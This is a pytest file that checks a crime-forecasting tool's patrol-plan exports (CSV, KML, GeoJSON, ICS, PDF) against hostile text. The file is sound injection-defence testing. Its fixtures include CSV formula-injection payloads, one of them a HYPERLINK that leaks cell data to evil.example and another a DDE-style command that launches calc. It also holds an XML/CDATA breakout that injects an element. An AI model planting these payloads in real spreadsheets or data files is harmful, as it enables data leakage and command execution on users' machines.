"""Hostile text (formulas, XML metacharacters, a crafted element, control characters) is harmless in every
export format, written by the library, the CLI (`crimecast export patrol`) and the dashboard's download."""

from __future__ import annotations

import csv
import io
import json
from xml.etree import ElementTree as ET

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
import shapely

from forecasting import export as ex
from forecasting import patrol as pt
from forecasting.grid import Grid

FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"open")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3",
            "\t=1+1", "\r=1+1"]
XMLISH = "Smith & Sons Street <b>x</b> ]]><Placemark><name>evil</name></Placemark>"
CONTROL = "Bad\x00name\x0bhere"
KML_NS = {"k": "http://www.opengis.net/kml/2.2"}


def _plan(addresses: list[str], generated_by: str, area_names: tuple[str, str] | None = None) -> pt.PatrolPlan:
    n = 10
    rows, cols = np.divmod(np.arange(n * n), n)
    g = Grid(crs="EPSG:32610", cell_size=150, col=3268 + cols, row=36388 + rows)
    exp = np.full(n * n, 0.01)
    for r, c, v in [(2, 2, 1.2), (2, 3, 0.9), (7, 7, 1.0), (7, 8, 0.4)]:
        exp[r * n + c] = v
    cells = gpd.GeoDataFrame({"cell_id": g.cell_ids, "row": g.row, "col": g.col, "expected_count": exp,
                              "reasons": [["=1+1 reason & <why>"] if v > 0.5 else [] for v in exp]},
                             geometry=g.polygons().geometry.values, crs="EPSG:4326")
    spots = [cells.geometry.iloc[2 * n + 2].centroid, cells.geometry.iloc[7 * n + 7].centroid]
    addr = pd.DataFrame({"longitude": [p.x for p in spots], "latitude": [p.y for p in spots], "address": addresses})
    areas = None
    if area_names:
        minx, miny, maxx, maxy = cells.total_bounds
        mid = (miny + maxy) / 2
        areas = gpd.GeoDataFrame({"name": list(area_names)}, geometry=[shapely.box(minx, miny, maxx, mid),
                                 shapely.box(minx, mid, maxx, maxy)], crs="EPSG:4326")
    meta = {"shift": "2024-03-04/2", "model": "lgbm", "model_version": "7", "generated_by": generated_by,
            "timezone": "America/Vancouver"}
    return pt.build_patrol_plan(cells, start="2024-03-04 22:00", end="2024-03-05 06:00", addresses=addr,
                                areas=areas, meta=meta)


def check_csv(data: bytes, expect_text: list[str]) -> list[dict]:
    """No cell starts a formula; the hostile values are there, quoted."""
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
    assert rows
    for row in rows:
        for v in row.values():
            assert not v.startswith(("=", "+", "@", "\t", "\r")), v
            assert not v.startswith("-") or _number(v), v
    cells = {v for row in rows for v in row.values()}
    for t in expect_text:
        assert any(t.lstrip("\t\r") in c and c.startswith("'") for c in cells) or t in cells, (t, cells)
    return rows


def _number(v: str) -> bool:
    try:
        float(v)
    except ValueError:
        return False
    return True


def check_kml(data: bytes, n_hotspots: int, names: list[str]) -> None:
    """Well-formed XML; one point placemark per hotspot (no injected element); names read back as text."""
    root = ET.fromstring(data)
    folders = root.findall("k:Document/k:Folder", KML_NS)
    assert [f.find("k:name", KML_NS).text for f in folders] == ["Hotspots", "Hotspot areas"]
    marks = folders[0].findall("k:Placemark", KML_NS)
    assert len(marks) == n_hotspots
    assert not [e for e in root.iter() if e.tag.endswith("}b")]
    text = " ".join(m.find("k:name", KML_NS).text for m in marks) + " ".join(
        v.text or "" for v in root.iter("{http://www.opengis.net/kml/2.2}value"))
    for name in names:
        assert name in text, name


def check_others(geojson: bytes, ics: bytes, pdf: bytes, n_hotspots: int) -> None:
    from icalendar import Calendar
    from pypdf import PdfReader

    assert len(json.loads(geojson)["features"]) == n_hotspots
    events = Calendar.from_ical(ics).walk("VEVENT")
    assert events and all(str(e["SUMMARY"]).startswith("Patrol visit") for e in events)
    assert b"BEGIN:VEVENT\r\nBEGIN" not in ics
    assert len(PdfReader(io.BytesIO(pdf)).pages) >= 1


# ------------------------------------------------------------------ library
@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_neutralises_formulas_in_every_text_cell(formula, tmp_path):
    plan = _plan([formula, XMLISH], generated_by=formula, area_names=(formula, XMLISH))
    rows = check_csv(ex.write_plan(plan, tmp_path / "p.csv").read_bytes(), [])
    assert {r["generated_by"] for r in rows} == {"'" + formula}
    assert all(float(r["longitude"]) < 0 for r in rows)  # numbers stay numbers


def test_every_format_survives_hostile_names(tmp_path):
    plan = _plan([XMLISH, CONTROL], generated_by="@evil", area_names=("=1+1", XMLISH))
    out = {fmt: ex.write_plan(plan, tmp_path / f"p.{fmt}").read_bytes() for fmt in ex.EXPORT_FORMATS}
    n = len(plan.hotspots)
    check_csv(out["csv"], ["@evil", "=1+1"])
    check_kml(out["kml"], n, ["Smith & Sons Street <b>x</b> ]]><Placemark><name>evil</name></Placemark>"])
    check_others(out["geojson"], out["ics"], out["pdf"], n)
    assert "Bad\ufffdname\ufffdhere" in out["kml"].decode("utf-8")


# ------------------------------------------------------------------ CLI
def test_cli_exports_survive_hostile_addresses_areas_and_user(tmp_path, factory, settings):
    from typer.testing import CliRunner

    from forecasting.cli import app
    from forecasting.store.models import Incident
    from forecasting.store.session import transaction

    from .test_priority_cli import _fill

    g = _fill(factory)
    with transaction(factory) as s:  # the hotspots' most frequent block addresses become hostile
        for inc in s.query(Incident).all():
            if inc.address == "10XX W GEORGIA ST":
                inc.address = "=HYPERLINK(\"http://evil.example\")"
            elif inc.address == "9XX GRANVILLE ST":
                inc.address = XMLISH
    minx, miny, maxx, maxy = g.polygons().total_bounds
    beats = gpd.GeoDataFrame({"beat": ["@north", "-south"]}, geometry=[shapely.box(minx, miny, maxx, maxy)] * 2,
                             crs="EPSG:4326")
    beats.to_file(tmp_path / "beats.geojson", driver="GeoJSON")
    env = {"CRIMECAST_DATA_DIR": str(settings.data_dir)}
    out = {}
    for fmt in ex.EXPORT_FORMATS:
        path = tmp_path / f"cli.{fmt}"
        r = CliRunner().invoke(app, ["export", "patrol", "--format", fmt, "--out", str(path), "--user", "-2+3",
                                     "--areas", str(tmp_path / "beats.geojson"), "--area-field", "beat",
                                     "--area", "-south"], env=env)
        assert r.exit_code == 0, r.output
        out[fmt] = path.read_bytes()
    rows = check_csv(out["csv"], ['=HYPERLINK("http://evil.example")', "-2+3", "-south"])
    check_kml(out["kml"], len(rows), [XMLISH])
    check_others(out["geojson"], out["ics"], out["pdf"], len(rows))


# ------------------------------------------------------------------ dashboard
def test_dashboard_downloads_survive_hostile_area_and_user(tmp_path):
    import base64

    from flask import g as flask_g

    from dashboards import create_app
    from dashboards.contracts import Account
    from dashboards.pages import exports
    from forecasting.config import load_settings
    from tests.support.fake_provider import FakeProvider
    from tests.support.synthetic import synthetic_districts

    fake = FakeProvider(n_cells=225, seed=3)
    districts = synthetic_districts(fake.cells)
    for f, name in zip(districts["features"], ["=HYPERLINK(\"x\")", XMLISH], strict=False):
        f["properties"] = {"name": name}
    fake._boundaries = {"districts": districts}
    app = create_app(load_settings(data_dir=str(tmp_path)), fake)
    ctx = app.crimecast_context
    user = Account("@sum.x", "viewer", False)
    out = {}
    for area in ("districts/=HYPERLINK(\"x\")", f"districts/{XMLISH}"):
        for fmt in ex.EXPORT_FORMATS:
            with app.server.test_request_context("/_dash-update-component", method="POST"):
                flask_g.account = user
                sent, msg = exports.download(ctx, 1, area, fmt, user)
            out[fmt] = base64.b64decode(sent["content"])
        rows = check_csv(out["csv"], ["@sum.x"])
        check_kml(out["kml"], len(rows), [])
        check_others(out["geojson"], out["ics"], out["pdf"], len(rows))
    # The area is the dropdown's value (layer/name) or the name alone: the hostile text survives whole.
    assert {r["area"].removeprefix("districts/") for r in rows} == {XMLISH}
